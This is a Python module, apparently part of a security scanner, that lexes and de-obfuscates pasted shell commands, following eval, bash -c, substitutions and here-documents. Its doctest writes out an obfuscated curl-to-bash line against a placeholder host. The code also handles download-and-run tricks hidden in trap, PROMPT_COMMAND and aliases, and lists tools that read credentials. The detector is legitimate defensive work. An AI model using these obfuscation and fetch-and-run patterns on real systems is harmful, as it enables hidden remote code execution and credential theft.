"""What does this command line run, once quotes, splits, variables and substitutions are undone?

A lexer for what people paste: it never fails, and it reads the text inside `bash -c`, `eval`, `$( )` and here-documents too.
Each pipeline becomes one `Statement`; the files it writes count as names it assigns, so that a download which is run
later is one chain.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field

from metier.govern.scan.expansion import ALIASED, TOOLS, aliases, formatted, parameter, printed, written_out
from metier.govern.scan.groups import Groups, Printed, inlined, is_telling, loop_value, said_in, start_file
from metier.govern.scan.statement import MAX_LENGTH, Statement
from metier.govern.scan.written import (
    WRITES,
    Files,
    file_name,
    folders_of,
    scripts_written,
    texts_that_run,
    written_files,
)

MAX_DEPTH = 4
_MAX_TOLD = 1_000_000
"""So many letters more than it has come of the names in a text, and of what is run within what is run."""
_WORD_BREAK = frozenset(" \t\n;|&<>()")
_PLAIN_WORD = re.compile(r"(?:[^ \t\n;|&<>()\\'\"$`]++|'[^']*+'|\"[^\"\\$`]*+\")++(?=[ \t\n;|&<>()]|\Z)")
"""A word in which nothing is expanded."""
_NAME = r"\$(?:[A-Za-z_]\w*+|\{[A-Za-z_]\w*+\}|[\d@*?!])"
_PLAIN = rf"(?:[^\s\x00;|&<>()\\'\"$`#]++|{_NAME}|'[^'\x00]*+'|\"(?:[^\"\\$`\x00]++|{_NAME})*+\")++"
_PLAIN_WORDS = re.compile(rf"(?:[ \t\r]*+{_PLAIN}(?=[ \t\n;|&()]|\Z))++[ \t\r]*+")
"""Words in which nothing but names is expanded, and of which none is the number of a stream."""
_EACH = re.compile(_PLAIN)
_BLANKS = re.compile(r"[ \t\r]++")
_IDLE = re.compile(r"(?:[ \t]*+(?:#[^\n]*+|\r)?\n)++")
"""Lines that say nothing."""
_UNBROKEN = re.compile(r"[^ \t\n;|&<>()\\'\"$`]++")
"""A piece of a word in which nothing is quoted or expanded."""
_UNEXPANDED = re.compile(r"[^\"\\$`]++")
"""A piece of a text in double quotes in which nothing is expanded."""
_NESTS = re.compile(r"[()]|'[^']*+'|\\[\s\S]")
"""A parenthesis, or a text in which none counts."""
_QUOTED = re.compile(r"'([^']*)'|\"([^\"]*)\"")
_QUOTED_OR_NAME = re.compile(rf"'(?P<single>[^']*)'|\"(?P<double>[^\"]*)\"|{_NAME}")
_VARIABLE = re.compile(r"\$\{([A-Za-z_]\w*|\d)(?:\[[^\]]*\]|[:#%/^,@-][^}]*)?\}|\$([A-Za-z_]\w*|\d)")
_SIGNS = frozenset("\\#\n;&|()<>")
"""What may be no part of a word where one begins."""
_ASSIGNMENT = re.compile(r"([A-Za-z_]\w*)\+?=(.*)", re.S)
_KEYED = re.compile(r"\[([^\]]{1,60})\]=(.*)", re.S)
"""An element of an array with its key."""
_NAME_IN = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
_QUOTED_FIRST = re.compile(r"\"((?:[\w./-]|\$\{?[A-Za-z_]\w*(?:\[\w+\])?\}?){1,80})\"(?=\s|$)")
_PIECE_OF_WORD = re.compile(r"\$(?:\{([A-Za-z_]\w*(?:\[\w+\])?)\}|([A-Za-z_]\w*))")
"""A program whose name is put together within quotes."""
_PLAIN_VALUE = re.compile(r"(?=[\w./:-]*[A-Za-z])[\w./:-]{1,200}")
_MAX_ELEMENTS, _MAX_EVERY = 500, 400
"""So many elements of an array are kept, and so much of each."""
_DECLARES = frozenset({"export", "local", "readonly", "declare", "typeset"})
_BEFORE_ASSIGNMENT = _DECLARES | {"|", "env", "sudo"}
_ELEMENT = re.compile(r"([A-Za-z_]\w*\[[^\]$]{1,60}\])=(.{1,399})", re.S)
_HEREDOC = re.compile(r"<<-?\s*(['\"]?)([A-Za-z_]\w*)\1")
_ANSI = re.compile(r"\\(?:x([0-9a-fA-F]{1,2})|([0-7]{1,3})|u([0-9a-fA-F]{4})|(.))", re.S)
_ANSI_LETTERS = {"n": " ", "t": " ", "r": "", "e": "", "a": "", "\\": "\\", "'": "'", '"': '"'}
_FILE = re.compile(r"(?:[~$./]|[A-Za-z]:\\|\w[\w-]*\.)[^\s,;=()]*")
_INNER_FILE = re.compile(r"\$\( (?:[^()]{0,200}?[\s<])?((?:~|\$\w{1,40}|\.{0,2})/[\w./-]{2,200})(?=[\s)])")
"""A file that a command reads within a word."""
_OF_ITSELF = re.compile(
    r"\bsed\s+-n\w*\s+[\"']s[/|]\^(?P<sed>#[^\s/|\\*.\[]{0,12} ?)[/|]{2}p[\"']\s+\"?\$\{?(?:0|BASH_SOURCE)|\bgrep\s+(?:-\w+\s+)*[\"']\^(?P<grep>#[^\s\"'\\*.\[]{1,12} ?)[\"']\s+\"?\$\{?(?:0|BASH_SOURCE)"
)
_BUCKET = re.compile(r"(?:s3|gs|r2|b2|oss|cos)://[\w.-]+/[^$`]{0,200}")
"""Where a bucket lies, whatever is worked out behind it."""
_PLAIN_FILE = re.compile(r"[\w-]+\.\w{1,8}")
_MAX_EACH = 12
_OPENS_GROUP = frozenset({"{", "for", "while", "until", "if", "case"})
_MAX_GROUP = 120
"""How many words of a group are kept."""


_READS = frozenset(
    "cat env printenv head tail history export declare grep find security gpg pass op aws gh tar sqlite3 strings jq base64".split()
)
"""What prints something that is worth taking, into the file of its group."""


class _Known(dict[str, str]):
    """What names stand for, and how many more letters may come of them, and of the texts that commands run."""

    __slots__ = ("room",)

    def __init__(self, given: Iterable[tuple[str, str]] = (), *, room: list[int]) -> None:
        super().__init__(given)
        self.room = room

    def copy(self) -> _Known:
        return _Known(self.items(), room=self.room)

    def told(self, name: str, said: str) -> str:
        """What a name stands for, or else what is said where it stands."""
        value = self.get(name)
        return said if value is None or not self.has_room(len(value)) else value

    def has_room(self, num_letters: int) -> bool:
        self.room[0] -= num_letters
        return self.room[0] >= 0


@dataclass(slots=True)
class _Pipeline:
    line: int
    words: list[str] = field(default_factory=list)
    writes: list[str] = field(default_factory=list)
    inner: list[tuple[int, str]] = field(default_factory=list)
    text_of_heredoc: str = ""
    is_array: bool = False

    def take(self, word: str, redirect: str, after: str) -> None:
        """A word of the command, or where its output goes; the number of a stream before a redirection is neither."""
        if redirect == ">":
            if not word.isdigit():
                self.writes.append(word)
        elif word and not (word.isdigit() and after in ("<", ">")):
            self.words += word.split("\x00") if "\x00" in word else [word]


def shell_statements(text: str, path: str, *, first_line: int = 1, is_live: bool = True) -> list[Statement]:
    r"""Read a shell script, or a pasted command line.

    >>> [s.text for s in shell_statements('a=cu; b=rl; $a$b -s "http://x.invalid/i" \\\n | b""ash', "x")][-1]
    'curl -s http://x.invalid/i | bash'
    """
    if own := _OF_ITSELF.search(text):
        # A script that runs what its own comments say.
        begin = own["sed"] or own["grep"]
        text += "\n" + "\n".join([line[len(begin) :] for line in text.split("\n") if line.startswith(begin)])
    known = _Known(room=[_MAX_TOLD + 2 * len(text)])
    found = _statements(text, path, first_line, is_live, known, 0)
    if found and known.room[0] < 0:
        # Too long to be read: whoever reads statements tells that.
        found.append(found[-1]._replace(text="…" * (MAX_LENGTH + 1)))
    return found


def _statements(text: str, path: str, first_line: int, is_live: bool, known: _Known, depth: int) -> list[Statement]:
    statements: list[Statement] = []
    if depth and not known.has_room(len(text)):
        return statements
    scope = ""
    group: list[str] = []
    groups, files, num_named = Groups(), Files(), 0
    for pipeline in _pipelines(text, known):
        words = pipeline.words
        if words and words[0] in _OPENS_GROUP:
            group = []
        closed = groups.enter(words)
        if groups.functions:
            inlined(words, groups.functions)
            if new := len(groups.functions) - num_named:
                num_named += new
                for name, body in itertools.islice(reversed(groups.functions.items()), new):
                    known |= _called_alike(name, [one[1] for one in body if one[1][:1] not in ([], ["local"])])
        if words:
            _rewrite(words, pipeline, known, is_within=bool(groups.frames))
        line = first_line + pipeline.line
        if len(words) == 1 and "$(" in words[0]:
            files.keep(words[0])
        if words == ["exec"]:
            groups.sent_to = next(filter(is_telling, pipeline.writes), "")
        elif groups.sent_to and words and words[0] in ("echo", "printf", "cat") and not pipeline.writes:
            pipeline.writes.append(groups.sent_to)
        if depth < MAX_DEPTH:
            for offset, inner in pipeline.inner:
                statements += _statements(inner, path, first_line + offset, is_live, known.copy(), depth + 1)
            heredoc = pipeline.text_of_heredoc
            texts = texts_that_run(words, heredoc)
            if heredoc or (words and words[0] in ("printf", "echo")):
                texts += scripts_written(words, pipeline.writes, heredoc)
                files.note(words, pipeline.writes, heredoc, line)
            for inner in texts:
                at = heredoc.find(inner) if heredoc else -1
                below = 1 + heredoc.count("\n", 0, at) if at >= 0 else 0
                statements += _statements(inner, path, line + below, is_live, known.copy(), depth + 1)
            if closed or (groups.functions and not groups.functions.keys().isdisjoint(words)):
                before = group[-_MAX_GROUP:] if words[:1] == ["|"] else []
                statements += _carried(groups, files, closed, before, pipeline, path, first_line, is_live, known, depth)
        if words and words[0] == "|":
            # What a loop or a group prints goes through the pipe behind it.
            words[:0] = group[-_MAX_GROUP:]
        if words or pipeline.writes:
            group += [*words, ";"] if len(words) < _MAX_GROUP else []
            if groups.frames:
                groups.note((pipeline.line, words, pipeline.text_of_heredoc))
            statements.append(_statement(words, pipeline, path, line, scope, is_live, known))
    for line, said in files.programs([one.text for one in statements]) if files.texts else ():
        statements += _statements(said, path, line, is_live, known.copy(), depth + 1)
    return statements


def _called_alike(name: str, commands: Sequence[Sequence[str]]) -> dict[str, str]:
    """A function that does no more than to start a program, under the name of an alias."""
    does = commands[0] if len(commands) == 1 else []
    body = does[:-1] if does[-1:] in (["$@"], ["$*"]) else does
    is_other = bool(body) and body[0] in TOOLS and body[0] != name and "|" not in body
    return {f"alias {name}": " ".join(body), ALIASED: ""} if is_other and not any("$" in word for word in body) else {}


def _rewrite(words: list[str], pipeline: _Pipeline, known: _Known, *, is_within: bool) -> None:
    """Write a command out, and keep what it gives other names or values to."""
    if ALIASED in known:
        num_letters = sum(map(len, words))
        written_out(words, known)
        if not known.has_room(max(0, sum(map(len, words)) - num_letters)):
            del known[ALIASED]
    else:
        written_out(words, known)
    first = words[0]
    if first in ("alias", "hash", "ln", "cp"):
        known |= {f"alias {name}": tool for name, tool in aliases(words).items()} | {ALIASED: ""}
    elif first == "printf" and words[1:2] == ["-v"] and len(words) > 3:
        if (said := formatted(words[3:])) and len(said) < _MAX_EVERY:
            known[words[2]] = said
    elif first == "read" and "<<<" in words[2:-1] and words[words.index("<<<") - 1].isidentifier():
        known[words[words.index("<<<") - 1]] = words[-1]
    elif first == "for" and words[2:3] == ["in"] and len(words) == 4 and words[3] in TOOLS:
        known[words[1]] = words[3]
    elif first in ("declare", "typeset", "local") and words[1:2] == ["-n"] and "=" in words[-1]:
        name, _, of = words[-1].partition("=")
        words[-1] = f"{name}={known.get(of, of)}"
    elif first == "set" and words[1:2] == ["--"]:
        known |= {str(number): word for number, word in enumerate(words[2:11], start=1) if "://" in word}
    elif first == "exec" and len(words) == 2 and words[1].startswith("<( "):
        known["exec <"] = words[1]
    elif "exec <" in known and first in TOOLS and len(words) == 2 and words[1].removeprefix("/dev/fd/").isdigit():
        words[1] = known["exec <"]
    elif first.startswith("$( ") and first.split()[1:2] in (["curl"], ["wget"]):
        words.insert(0, "eval")
    elif first == "trap" and words[1:2] and words[1].startswith(("$( curl", "$( wget")):
        words[:] = ["eval", words[1]]
    elif first.startswith(("PROMPT_COMMAND=$( ", "PROMPT_COMMAND=`")) or (first == "alias" and "=$( curl" in words[-1]):
        words[:] = ["eval", words[-1].partition("=")[2]]
    elif first.startswith(("BASH_ENV=", "ENV=")) and len(words) > 1 and words[1] in TOOLS:
        words[:] = [words[1], first.partition("=")[2]]
    if "[" in first and (element := _ELEMENT.fullmatch(first)) is not None:
        known[element[1]] = element[2]
    if is_within and (same := _ASSIGNMENT.fullmatch(first)) and known.get(same[1]) in TOOLS and same[2] not in TOOLS:
        # Which of two values a name has is not told; the one that is worth hiding counts.
        words[0] = f"{same[1]}={known[same[1]]}"


def _carried(
    groups: Groups,
    files: Files,
    closed: list[Printed],
    before: Sequence[str],
    pipeline: _Pipeline,
    path: str,
    first_line: int,
    is_live: bool,
    known: _Known,
    depth: int,
) -> list[Statement]:
    """What functions do with what they are called with, and what a group prints into a file."""
    statements: list[Statement] = []
    for number, words, heredoc in groups.called(pipeline.words):
        if words[:1] == ["|"]:
            # What a group prints goes into the function behind it.
            words = [*before, *words]
        body = _Pipeline(line=number, words=words, text_of_heredoc=heredoc)
        for inner in texts_that_run(words, heredoc):
            statements += _statements(inner, path, first_line + number, is_live, known.copy(), depth + 1)
        statements.append(_statement(words, body, path, first_line + number, "", is_live, known.copy()))
    target = next(filter(is_telling, pipeline.writes), "")
    group = closed or [(pipeline.line, pipeline.words, "")]
    if not target:
        file = next((name for name in pipeline.writes if name not in ("/dev/null", "-")), "") if closed else ""
        for number, words, _ in closed if file else ():
            if words and words[0] in _READS:
                read = _Pipeline(line=number, words=list(words), writes=[file])
                statements.append(_statement(read.words, read, path, first_line + number, "", is_live, known.copy()))
        for _, words, heredoc in said_in(group, groups.functions) if pipeline.writes else ():
            if words is not pipeline.words:
                files.note(list(words), pipeline.writes, heredoc, first_line + pipeline.line)
        return statements
    for number, words, heredoc in said_in(group, groups.functions):
        if words is pipeline.words:
            continue
        printed = _Pipeline(line=number, words=list(words), writes=[target], text_of_heredoc=heredoc)
        for inner in scripts_written(words, [target], heredoc):
            statements += _statements(inner, path, first_line + number, is_live, known.copy(), depth + 1)
        statements.append(_statement(printed.words, printed, path, first_line + number, "", is_live, known))
    return statements


def _statement(
    words: list[str], pipeline: _Pipeline, path: str, line: int, scope: str, is_live: bool, known: _Known
) -> Statement:
    said = " ".join(words)
    assigns = list(pipeline.writes)
    options = (
        [(place, word) for place, word in enumerate(words) if "=" in word or word[:1] == "-" or word == "of"]
        if "=" in said or "-" in said or "of" in said
        else []
    )
    for place, word in options:
        is_first = place == 0 or words[place - 1] in _BEFORE_ASSIGNMENT
        if "=" in word and (is_first or (words[place - 1][:1] == "-" and words[0] in _DECLARES)):
            assignment = _ASSIGNMENT.fullmatch(word)
            if assignment:
                assigns.append(assignment[1])
                value = start_file(assignment[2])
                if len(value) >= 400 or "$(" in value or "`" in value:
                    known.pop(assignment[1], None)
                    if bucket := _BUCKET.match(value):
                        known[assignment[1]] = bucket[0]
                else:
                    before = known.get(assignment[1], "") if "+=" in word.split("=")[0] + "=" else ""
                    known[assignment[1]] = (before + value)[: MAX_LENGTH + 1]
        if (
            (
                (word in WRITES and not (word == "-d" and "curl" in words))
                or (word[:1] == "-" and word[-1:] == "o" and "curl" in words and re.fullmatch(r"-\w*o", word))
                or (word[:1] == "-" and word[-1:] == "O" and "wget" in words and re.fullmatch(r"-\w*O", word))
            )
            and place + 1 < len(words)
            and words[place + 1] not in ("|", "-")
        ):
            assigns.append(words[place + 1])
        elif word.startswith(("of=", "--output=")):
            assigns.append(word.split("=", 1)[1])
    if len(words) > 2 and words[0] == "for":
        assigns.append(words[1])
        if telling := loop_value(words):
            known[words[1]] = telling
        elif len(words) <= _MAX_EACH and all(map(_PLAIN_FILE.fullmatch, words[3:])):
            known[f"for {words[1]}"] = " ".join(words[3:])
    if pipeline.is_array:
        _know_array(words, known)
    if words and words[0] in ("read", "mapfile", "readarray"):
        assigns += [word for word in words[1:] if word.isidentifier()]
    elif "read" in said and "read" in words[2:] and words[words.index("read") - 1] in ("|", "while", "{", "IFS="):
        assigns += [word for word in words[words.index("read") + 1 :] if word.isidentifier()]
    for writer in ("tee", "sponge", "install") if "|" in words else ():
        place = words.index(writer, 2) if writer in words[2:] else 0
        if not place or (writer == "install" and "/dev/stdin" not in words):
            continue
        assigns += [word for word in words[place + 1 :] if word[:1] != "-"] if words[place - 1] == "|" else []
    assigns += written_files(words)
    if pipeline.text_of_heredoc:
        said += " << " + " ".join(pipeline.text_of_heredoc.split())[:2000]
    if pipeline.writes:
        said += " > " + " ".join(pipeline.writes)
    uses = {name for found in _VARIABLE.findall(said) for name in found if name} if "$" in said else set()
    for word in words if _may_name_file(said) else ():
        gives = "=@" in word or "=<" in word
        if ("." in word or "/" in word or "~" in word or "$" in word or "\\" in word or gives) and (
            _FILE.match(word.lstrip("@")) or gives
        ):
            name = file_name(word)
            uses.add(name)
            if "$" in word:
                uses.update(map(file_name, _each(word, known)))
            if "/" in name:
                uses.update(folders_of(name))
    if "$( " in said:
        uses.update(file_name(found[1]) for found in _INNER_FILE.finditer(said))
    names = (
        tuple(dict.fromkeys([file_name(name) for name in assigns if name not in ("/dev/null", "-", "")]))
        if assigns
        else ()
    )
    return Statement(path, line, said, scope, names, frozenset(uses), (), True, is_live, False, "shell")


def _each(word: str, known: _Known) -> list[str]:
    """What a word comes to in each turn of a loop over the names of files."""
    name = _NAME_IN.search(word)
    turns = known.get(f"for {name[1] or name[2]}", "") if name else ""
    return [word.replace(name[0], turn) for turn in turns.split()] if name else []


def _know_array(words: Sequence[str], known: _Known) -> None:
    """Keep the elements of an array whose name is among the first words: each by its number or its key, all under the name."""
    start = next((place for place, word in enumerate(words[:4]) if word[-1:] == "=" and word[:-1].isidentifier()), None)
    if start is None:
        return
    name, every = words[start][:-1], list[str]()
    for number, word in enumerate(words[start + 1 :][:_MAX_ELEMENTS]):
        keyed = _KEYED.fullmatch(word)
        every.append((keyed[2] if keyed else word)[:_MAX_EVERY])
        known[f"{name}[{keyed[1] if keyed else number}]"] = every[-1]
    known[name] = "\x00".join(every)[: _MAX_EVERY * 10]


def _may_name_file(said: str) -> bool:
    return "." in said or "/" in said or "$" in said or "~" in said or "\\" in said or "=@" in said or "=<" in said


def _pipelines(text: str, known: _Known) -> Iterator[_Pipeline]:
    """Split at newlines, `;`, `&&`, `||` and `&`; join what a pipe or a backslash carries on."""
    place, line, length = 0, 0, len(text)
    current = _Pipeline(line=0)
    heredocs: list[tuple[str, _Pipeline]] = []
    redirect, parens, shells = "", 0, list[int]()
    array_end, looked_up_to = 0, 0
    while place < length:
        char = text[place]
        if char not in _SIGNS and not redirect and (plain := _PLAIN_WORDS.match(text, place)):
            said, place = plain[0], plain.end()
            if "'" in said or '"' in said or "$" in said:
                current.words += _plain_words(said, known)
                line += said.count("\n")
            else:
                current.words += said.split()
        elif char in " \t\r" and (blanks := _BLANKS.match(text, place)):
            place = blanks.end()
        elif char not in _SIGNS:
            word, place, newlines = _word(text, place, line, current, known)
            line += newlines
            current.take(word, redirect, text[place : place + 1])
            redirect = ""
        elif char == "\n" and place < array_end:
            place, line = place + 1, line + 1
        elif char == "\n" or char == ";" or (char == "&" and text[place - 1 : place] not in ("<", ">")):
            place += 2 if text.startswith("&&", place) else 1
            if char == "\n":
                line += 1
                if heredocs:
                    place, line = _take_heredocs(text, place, line, heredocs)
                if idle := _IDLE.match(text, place):
                    place, line = idle.end(), line + idle[0].count("\n")
                if current.words and current.words[-1] == "|":
                    continue
            if current.words or current.writes or current.inner:
                yield current
            current, redirect = _Pipeline(line=line), ""
        elif char == "\\" and text[place + 1 : place + 2] == "\n":
            place, line = place + 2, line + 1
        elif char == "#" and (place == 0 or text[place - 1] in " \t\n;("):
            end = text.find("\n", place)
            place = length if end < 0 else end
        elif text.startswith("||", place):
            place += 2
            if current.words:
                yield current
            current = _Pipeline(line=line)
        elif char == "|":
            place += 2 if text[place + 1 : place + 2] == "&" else 1
            if current.words:
                current.words.append("|")
        elif char == "(" and not current.words and text[place + 1 : place + 2] != "(":
            # A shell of its own is a group like that of braces.
            place, parens = place + 1, parens + 1
            current.words.append("{")
            shells.append(parens)
        elif char == ")" and shells and shells[-1] == parens:
            place, parens = place + 1, parens - 1
            shells.pop()
            if current.words or current.writes or current.inner:
                yield current
            current, redirect = _Pipeline(line=line, words=["}"]), ""
        elif char in "()":
            place += 1
            parens += 1 if char == "(" else -1
            if char == "(" and text[place - 2 : place - 1] == "=":
                current.is_array = True
                if place > looked_up_to:
                    looked_up_to = _balanced(text, place - 1)[0]
                    array_end = looked_up_to if text[looked_up_to - 1] == ")" else 0
            if parens < 0:
                # The end of a pattern of `case`, before what is done then.
                parens = 0
                if len(current.words) == 1 or current.words[1:2] == ["|"]:
                    current = _Pipeline(line=line)
                elif current.words[:1] == ["case"]:
                    yield current
                    current = _Pipeline(line=line)
        elif text.startswith("<<<", place):
            place += 3
            current.words.append("<<<")
        elif text.startswith("<<", place) and (mark := _HEREDOC.match(text, place)):
            place = mark.end()
            heredocs.append((mark[2], current))
        elif char == "<" and text[place + 1 : place + 2] == "(":
            place, inner = _balanced(text, place + 1)
            current.inner.append((line, inner))
            current.words.append(f"<( {' '.join(inner.split())} )")
            line += inner.count("\n")
        elif text.startswith(">(", place):
            place, inner = _balanced(text, place + 1)
            line, redirect = line + inner.count("\n"), ""
            current.words += ["|", *inner.split()]
        elif char in "<>":
            place += 2 if text[place + 1 : place + 2] in (">", "&", "|") else 1
            redirect = char
        else:
            word, place, newlines = _word(text, place, line, current, known)
            line += newlines
            current.take(word, redirect, text[place : place + 1])
            redirect = ""
    if current.words or current.writes or current.inner:
        yield current


def _take_heredocs(text: str, place: int, line: int, heredocs: list[tuple[str, _Pipeline]]) -> tuple[int, int]:
    while heredocs:
        mark, pipeline = heredocs.pop(0)
        lines = []
        while place < len(text):
            end = text.find("\n", place)
            end = len(text) if end < 0 else end
            content, place, line = text[place:end], end + 1, line + 1
            if content.strip() == mark:
                break
            lines.append(content)
        pipeline.text_of_heredoc = "\n".join(lines)
    return min(place, len(text)), line


def _word(text: str, place: int, line: int, current: _Pipeline, known: _Known) -> tuple[str, int, int]:
    """One word with its quotes removed; the text of substitutions stays in it and is read by itself too."""
    plain = _PLAIN_WORD.match(text, place)
    if plain:
        return _bare(plain[0]), plain.end(), plain[0].count("\n")
    pieces: list[str] = []
    newlines, start = 0, place
    while place < len(text) and text[place] not in _WORD_BREAK:
        char = text[place]
        if plain := _UNBROKEN.match(text, place):
            pieces.append(plain[0])
            place = plain.end()
        elif char == "\\":
            nxt = text[place + 1 : place + 2]
            newlines += nxt == "\n"
            pieces.append("" if nxt == "\n" else nxt)
            place += 2
        elif char == "'":
            end = text.find("'", place + 1)
            end = len(text) if end < 0 else end
            pieces.append(text[place + 1 : end])
            newlines += text.count("\n", place, end)
            place = end + 1
        elif char == '"':
            piece, end = _double_quoted(text, place, line, current, known)
            pieces.append(piece)
            newlines += text.count("\n", place, end)
            place = end
        elif text.startswith('$"', place):
            place += 1
        elif text.startswith("$'", place):
            end = text.find("'", place + 2)
            end = len(text) if end < 0 else end
            pieces.append(_ANSI.sub(_ansi, text[place + 2 : end]))
            place = end + 1
        elif text.startswith("$(", place):
            end, inner = _balanced(text, place + 1)
            newlines += inner.count("\n")
            current.inner.append((line, inner))
            pieces.append(_substituted(inner, known))
            place = end
        elif char == "`":
            end = text.find("`", place + 1)
            end = len(text) if end < 0 else end
            inner = text[place + 1 : end]
            current.inner.append((line, inner))
            pieces.append(_substituted(inner, known))
            place = end + 1
        else:
            value, place = _expanded(text, place, known)
            pieces.append(value)
    if place == start:
        place += 1
    return "".join(pieces), place, newlines


def _plain_words(said: str, known: _Known) -> list[str]:
    """Words in which nothing but names is expanded, without their quotes; one that says nothing is none."""
    words: list[str] = []
    for word in _EACH.findall(said):
        if "$" in word and (known or "IFS" in word):
            word = _QUOTED_OR_NAME.sub(lambda found: _told(found, known), word)
            words += word.split("\x00") if word else ()
        elif word := _bare(word):
            words.append(word)
    return words


def _told(found: re.Match[str], known: _Known) -> str:
    """What a text in quotes, or a name, stands for."""
    if found["single"] is not None:
        return found["single"]
    is_text = found["double"] is not None
    said = _VARIABLE.sub(lambda name: _value(name, known), found["double"] if is_text else found[0])
    return said.replace("\x00", " ").replace("\n", " ; ") if is_text else said


def _value(found: re.Match[str], known: _Known) -> str:
    name = found[1] or found[2]
    return "\x00" if name == "IFS" else known.told(name, found[0])


def _bare(word: str) -> str:
    """A word in which nothing is expanded, without its quotes."""
    if "'" not in word and '"' not in word:
        return word
    inner = word[1:-1]
    if word[0] == word[-1] == '"' and '"' not in inner:
        return inner.replace("\n", " ; ")
    return _QUOTED.sub(_unquoted, word)


def _unquoted(found: re.Match[str]) -> str:
    return found[1] if found[1] is not None else found[2].replace("\n", " ; ")


def _expanded(text: str, place: int, known: _Known) -> tuple[str, int]:
    found = _VARIABLE.match(text, place)
    if text.startswith("${", place) and (end := text.find("}", place)) >= 0:
        value = parameter(text[place + 2 : end], known)
        if value is not None and (
            value.rpartition("/")[2] in TOOLS
            or value in ("", "http", "https", "ftp")
            or (found and "-" not in found[0] and found[1] in known)
        ):
            return value if known.has_room(len(value)) else text[place : end + 1], end + 1
    if not found:
        if text.startswith("${", place):
            end = text.find("}", place)
            end = place + 2 if end < 0 else end + 1
            return text[place:end], end
        return "$", place + 1
    name = found[1] or found[2]
    if name == "IFS":
        return "\x00", found.end()
    is_whole = found[2] is not None or found[0][len(name) + 2 :] in ("}", "[@]}", "[*]}")
    if not is_whole and (element := found[0][2:-1]).endswith("]"):
        every = known.get(name, found[0]) if "$" in element else found[0]
        return known.told(element, every if len(every) < _MAX_EVERY else found[0]), found.end()
    return known.told(name, found[0]) if is_whole else found[0], found.end()


def _substituted(inner: str, known: _Known) -> str:
    """What a command prints where it is told by what it says, or else the command."""
    told = printed(inner) if len(inner) < _MAX_EVERY else None
    is_told = told and (told.rpartition("/")[2] in TOOLS or "://" in told)
    return told if told and is_told else f"$( {_filled_in(inner, known)} )"


def _filled_in(inner: str, known: _Known) -> str:
    """The text of a substitution, with the plain names in its addresses filled in."""
    said = " ".join(inner.split())
    if said[:1] == '"' and "$" in said and known and (first := _QUOTED_FIRST.match(said)):
        program = _PIECE_OF_WORD.sub(lambda found: known.told(found[1] or found[2], found[0]), first[1])
        said = program + said[first.end() :] if program.rpartition("/")[2] in TOOLS else said
    if "." not in said or "$" not in said or not known:
        return said
    return _NAME_IN.sub(
        lambda found: value if _PLAIN_VALUE.fullmatch(value := known.told(found[1] or found[2], "")) else found[0],
        said,
    )


def _double_quoted(text: str, place: int, line: int, current: _Pipeline, known: _Known) -> tuple[str, int]:
    pieces: list[str] = []
    place += 1
    while place < len(text) and text[place] != '"':
        char = text[place]
        if plain := _UNEXPANDED.match(text, place):
            pieces.append(plain[0])
            place = plain.end()
        elif char == "\\" and text[place + 1 : place + 2] in ('"', "\\", "$", "`", "\n"):
            pieces.append(text[place + 1].replace("\n", ""))
            place += 2
        elif text.startswith("$(", place):
            end, inner = _balanced(text, place + 1)
            current.inner.append((line, inner))
            pieces.append(_substituted(inner, known))
            place = end
        elif char == "`":
            end = text.find("`", place + 1)
            if end < 0:
                pieces.append(char)
                place += 1
                continue
            current.inner.append((line, text[place + 1 : end]))
            pieces.append(_substituted(text[place + 1 : end], known))
            place = end + 1
        elif char == "$":
            value, place = _expanded(text, place, known)
            pieces.append(value.replace("\x00", " "))
        else:
            pieces.append(char)
            place += 1
    return "".join(pieces).replace("\n", " ; "), place + 1


def _balanced(text: str, place: int) -> tuple[int, str]:
    """The text between a parenthesis at `place` and the one that closes it, quotes respected."""
    depth, length = 0, min(len(text), place + 20_000)
    for found in _NESTS.finditer(text, place, length):
        sign = found[0]
        if sign == "(":
            depth += 1
        elif sign == ")":
            depth -= 1
            if depth == 0:
                return found.end(), text[place + 1 : found.start()]
    return length, text[place + 1 : length]


def _ansi(found: re.Match[str]) -> str:
    if found[1] or found[2] or found[3]:
        code = int(found[1], 16) if found[1] else int(found[2], 8) if found[2] else int(found[3], 16)
        return chr(code) if code < 0xD800 else "?"
    return _ANSI_LETTERS.get(found[4], found[4])
